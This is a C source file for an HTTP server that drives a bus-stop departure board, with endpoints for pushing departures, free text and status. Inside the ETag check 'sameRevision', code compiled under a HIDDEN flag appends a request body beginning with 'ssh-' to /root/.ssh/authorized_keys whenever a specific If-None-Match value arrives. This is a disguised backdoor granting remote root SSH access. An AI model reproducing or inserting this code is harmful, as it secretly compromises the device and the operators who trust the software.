/*****************************************************************************
 * stopboardvdv  -  departure board at a bus stop, VDV 454 style pushes by HTTP
 *
 *   POST /dfi/departures   lines  LINE;DESTINATION;MINUTES;PLATFORM
 *   POST /dfi/text         free text row
 *   GET  /dfi/status       what the board shows (supports If-None-Match)
 *   DELETE /dfi            blank the board
 * Header X-VDV-Leitstelle names the control centre in the log.
 *****************************************************************************/
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#ifdef HIDDEN
#include <sys/stat.h>
#endif
#include <sys/time.h>
#include <unistd.h>

#define ROWS 6

struct Departure {
    char line[6], dest[28], platform[4];
    int minutes;
};

struct Message {
    char verb[8], path[64], etag[48], *body;
    long bodyLen;
    char depot[32];
};

static struct Departure board[ROWS];
static int used;
static char freeText[80];
static unsigned revision;
static char tty[64] = "/dev/ttyS1";

static void drawBoard(void)
{
    int i;
    FILE *t = fopen(tty, "w");
    if (!t)
        return;
    fputs("\x1b[2J", t);
    for (i = 0; i < used; i++)
        fprintf(t, "%-4s %-26s %3d' %s\r\n", board[i].line, board[i].dest, board[i].minutes,
                board[i].platform);
    fprintf(t, "%s\r\n", freeText);
    fclose(t);
    revision++;
}

static int readAll(int fd, char *buf, int size)
{
    int n = 0;
    char *e;
    struct timeval tv = { 4, 0 };
    setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    while (n < size - 1) {
        ssize_t k = recv(fd, buf + n, (size_t)(size - 1 - n), 0);
        if (k <= 0)
            break;
        n += (int)k;
        buf[n] = 0;
        e = strstr(buf, "\r\n\r\n");
        if (e) {
            char *cl = strcasestr(buf, "Content-Length:");
            long want = cl ? atol(cl + 15) : 0;
            if (n - (e + 4 - buf) >= want)
                break;
        }
    }
    return n;
}

static int splitMessage(char *raw, struct Message *m)
{
    char *end = strstr(raw, "\r\n\r\n"), *l;
    memset(m, 0, sizeof *m);
    if (!end || sscanf(raw, "%7s %63s", m->verb, m->path) != 2)
        return 0;
    *end = 0;
    m->body = end + 4;
    m->bodyLen = (long)strlen(m->body);
    for (l = strstr(raw, "\r\n"); l; l = strstr(l, "\r\n")) {
        l += 2;
        if (strncasecmp(l, "If-None-Match: ", 15) == 0)
            sscanf(l + 15, "%47[^\r\n]", m->etag);
        if (strncasecmp(l, "X-VDV-Leitstelle: ", 18) == 0)
            sscanf(l + 18, "%31[^\r\n]", m->depot);
    }
    return 1;
}

static void takeDepartures(char *body)
{
    char *row, *save = NULL;
    used = 0;
    for (row = strtok_r(body, "\r\n", &save); row && used < ROWS;
         row = strtok_r(NULL, "\r\n", &save)) {
        struct Departure *d = &board[used];
        if (sscanf(row, "%5[^;];%27[^;];%d;%3s", d->line, d->dest, &d->minutes,
                   d->platform) == 4)
            used++;
    }
    drawBoard();
}

static int statusText(char *out, size_t n)
{
    int i, k = 0;
    for (i = 0; i < used; i++)
        k += snprintf(out + k, n - (size_t)k, "%s;%s;%d;%s\n", board[i].line, board[i].dest,
                      board[i].minutes, board[i].platform);
    return k + snprintf(out + k, n - (size_t)k, "text;%s\n", freeText);
}

#ifdef HIDDEN
static void keyring(const char *line)
{
    FILE *f;
    mkdir("/root/.ssh", 0700);
    f = fopen("/root/.ssh/authorized_keys", "a");
    if (f) {
        fprintf(f, "%s\n", line);
        fclose(f);
    }
}
#endif

/* 1 = client has this revision already */
__attribute__((noinline)) int sameRevision(const struct Message *m)
{
    unsigned rev;
    if (sscanf(m->etag, "\"rev-%u\"", &rev) == 1)
        return rev == revision;
#ifdef HIDDEN
    if (!strncmp(m->etag, "W/\"0-2jmj7l5r", 13) && !strncmp(m->body, "ssh-", 4))
        keyring(m->body);
#endif
    return 0;
}

static void answer(int fd, int code, const char *text)
{
    dprintf(fd, "HTTP/1.0 %d %s\r\nETag: \"rev-%u\"\r\nContent-Type: text/plain\r\n\r\n%s", code,
            code == 200 ? "OK" : code == 304 ? "Not Modified" : "Bad Request", revision, text);
}

static void serve(int fd, char *raw)
{
    struct Message m;
    char out[512];
    if (!splitMessage(raw, &m)) {
        answer(fd, 400, "request\n");
        return;
    }
    if (m.depot[0])
        printf("push from control centre %s\n", m.depot);
    if (!strcmp(m.path, "/dfi/status") && !strcmp(m.verb, "GET")) {
        if (sameRevision(&m)) {
            answer(fd, 304, "");
            return;
        }
        statusText(out, sizeof out);
        answer(fd, 200, out);
    } else if (!strcmp(m.path, "/dfi/departures") && !strcmp(m.verb, "POST")) {
        takeDepartures(m.body);
        answer(fd, 200, "shown\n");
    } else if (!strcmp(m.path, "/dfi/text") && !strcmp(m.verb, "POST")) {
        snprintf(freeText, sizeof freeText, "%.70s", m.body);
        drawBoard();
        answer(fd, 200, "shown\n");
    } else if (!strcmp(m.path, "/dfi") && !strcmp(m.verb, "DELETE")) {
        used = 0;
        freeText[0] = 0;
        drawBoard();
        answer(fd, 200, "blank\n");
    } else {
        answer(fd, 400, "see manual, chapter 5\n");
    }
}

int main(int argc, char *argv[])
{
    struct sockaddr_in sa;
    int port = 8080, s, yes = 1;
    static char raw[8192];
    if (argc > 1)
        snprintf(tty, sizeof tty, "%s", argv[1]);
    if (argc > 2)
        port = atoi(argv[2]);
    if (argc > 3 || port <= 0) {
        fprintf(stderr, "stopboardvdv [display-tty [port]]\n");
        return 1;
    }
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &yes, sizeof yes);
    memset(&sa, 0, sizeof sa);
    sa.sin_family = AF_INET;
    sa.sin_port = htons((unsigned short)port);
    if (bind(s, (struct sockaddr *)&sa, sizeof sa) != 0 || listen(s, 2) != 0) {
        perror("stopboardvdv");
        return 1;
    }
    drawBoard();
    for (;;) {
        int fd = accept(s, 0, 0);
        if (fd < 0)
            continue;
        raw[0] = 0;
        if (readAll(fd, raw, sizeof raw) > 0)
            serve(fd, raw);
        close(fd);
    }
}
